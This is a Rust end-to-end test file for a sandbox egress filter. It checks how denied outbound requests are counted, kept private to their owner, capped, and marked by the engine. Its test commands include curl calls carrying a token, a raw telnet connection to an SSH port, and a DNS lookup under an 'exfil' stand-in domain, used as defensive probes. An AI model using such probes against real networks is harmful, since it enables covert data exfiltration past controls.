//! Denials: what was refused is a fact that its owner can ask for, bounded, and nobody else's.

use crate::world::{World, tests};
use ringfence_e2e::facade::{Rpc, done, exec_input, fresh_key, fresh_word};
use serde_json::{Value, json};
use std::sync::Arc;

tests! {
    mirrored:
        denials_are_counted_by_kind_the_most_frequent_first_and_without_their_query,
        denials_are_their_owners_alone,
        kinds_over_the_bound_are_counted_together,
        beside_the_engine_what_only_it_saw_is_told_too_and_marked;
}

fn asking(command: &str) -> Value {
    let mut input = exec_input(&fresh_key(), command);
    input["recipe"]["profiles"] = json!(["js-install"]);
    input
}

async fn denials_are_counted_by_kind_the_most_frequent_first_and_without_their_query(world: Arc<World>) {
    let sandbox = world.sandbox().await;
    let command = "for n in 1 2 3; do curl -s -o /dev/null \"https://pages.test/a?token=s3cret-$n\"; done; \
                   curl -s -o /dev/null https://pages.test/b; curl -s -o /dev/null -X POST https://registry.npmjs.org/b; true";
    done(sandbox.exec_input(asking(command)).await);
    let denials = sandbox.denials().await;
    let told: Vec<_> = denials
        .iter()
        .map(|d| format!("{} {} {}{} {}", d.count, d.method, d.host, d.path, d.reason))
        .collect();
    assert_eq!(
        told,
        ["3 GET pages.test/a host", "1 GET pages.test/b host", "1 POST registry.npmjs.org/b method"]
    );
    // They outlive the container, and looking boots none.
    sandbox.abort().await;
    let since = world.stack.control().now().await;
    assert_eq!(sandbox.denials().await, denials);
    sandbox.calls_since(since).await.assert_none("docker POST /containers/create*");
}

async fn denials_are_their_owners_alone(world: Arc<World>) {
    let sandbox = world.sandbox().await;
    done(sandbox.exec_input(asking("curl -s https://pages.test/mine")).await);
    assert_eq!(sandbox.denials().await.len(), 1);
    // The same key of another consumer is another sandbox, which has none.
    match world.stack.rpc("BETA", "denials", json!([sandbox.key])).await {
        Rpc::Returned(value) => assert_eq!(value, json!([])),
        threw => panic!("{threw:?}"),
    }
    let path = format!("/v1/sandboxes/{}/denials", sandbox.key);
    let others = world.stack.http("GET", &path, Some(world.stack.token("beta")), "").await;
    assert_eq!((others.status, others.text().as_str()), (200, "[]"));
    assert_eq!(world.stack.http("GET", &path, None, "").await.status, 401);
    let own = world.stack.http("GET", &path, Some(world.stack.token("alpha")), "").await;
    assert!(own.text().contains("/mine"), "{}", own.text());
}

async fn kinds_over_the_bound_are_counted_together(world: Arc<World>) {
    const KEPT: usize = 1_000;
    const OVER: u64 = 25;
    let sandbox = world.sandbox().await;
    // One connection, a thousand paths and some more, and one of the first once again.
    let command =
        format!("curl -s -o /dev/null 'https://pages.test/[1-{}]' https://pages.test/1", KEPT as u64 + OVER);
    done(sandbox.exec_input(asking(&command)).await);
    let denials = sandbox.denials().await;
    assert_eq!(denials.len(), KEPT + 1);
    let of = |path: &str| denials.iter().find(|denial| denial.path == path).map(|denial| denial.count);
    assert_eq!((of("/1"), of("/1000"), of("/1001"), of("(more)")), (Some(2), Some(1), None, Some(OVER)));
    assert_eq!(denials[0].path, "(more)", "the most frequent first");
}

async fn beside_the_engine_what_only_it_saw_is_told_too_and_marked(world: Arc<World>) {
    let (sandbox, word) = (world.sandbox().await, fresh_word());
    let command = format!(
        "curl -s -o /dev/null https://registry.npmjs.org/tinypackage; curl -s -o /dev/null https://pages.test/x; \
         curl -s -m 5 telnet://ssh.test:22 </dev/null; getent hosts {word}.exfil.test; true"
    );
    done(sandbox.exec_input(asking(&command)).await);
    let away = world.stack.ringfence_said(&["denials", "--json", &sandbox.key]).await;
    let rows: Vec<Value> = serde_json::from_str(&away.out).expect("JSON");
    assert!(rows.iter().all(|row| row.get("source").is_none()), "no engine is known: {rows:?}");

    let beside = world.stack.ringfence_beside_the_engine(&["denials", "--json", &sandbox.key]).await;
    assert_eq!(beside.code, Some(1), "{beside:?}");
    let rows: Vec<Value> = serde_json::from_str(&beside.out).expect("JSON");
    let engine = |host: &str| rows.iter().find(|row| row["source"] == "engine" && row["host"] == host);
    let ssh = engine("ssh.test").unwrap_or_else(|| panic!("{rows:?}"));
    assert_eq!(
        (&ssh["attempt"], &ssh["port"], &ssh["reason"]),
        (&json!("connect"), &json!(22), &json!("not-http"))
    );
    let looked_up = engine(&format!("{word}.exfil.test")).unwrap_or_else(|| panic!("{rows:?}"));
    assert_eq!((&looked_up["attempt"], &looked_up["reason"]), (&json!("lookup"), &json!("looked-up")));
    for connected in ["registry.npmjs.org", "pages.test"] {
        assert!(engine(connected).is_none(), "its look-up was for a connection: {rows:?}");
    }
    assert!(rows.iter().any(|row| row["host"] == "pages.test" && row["reason"] == "host"), "{rows:?}");
    let table = world.stack.ringfence_beside_the_engine(&["denials", &sandbox.key]).await;
    assert!(
        table.out.lines().any(|line| line.contains("ssh.test:22") && line.ends_with("engine")),
        "{}",
        table.out
    );
}
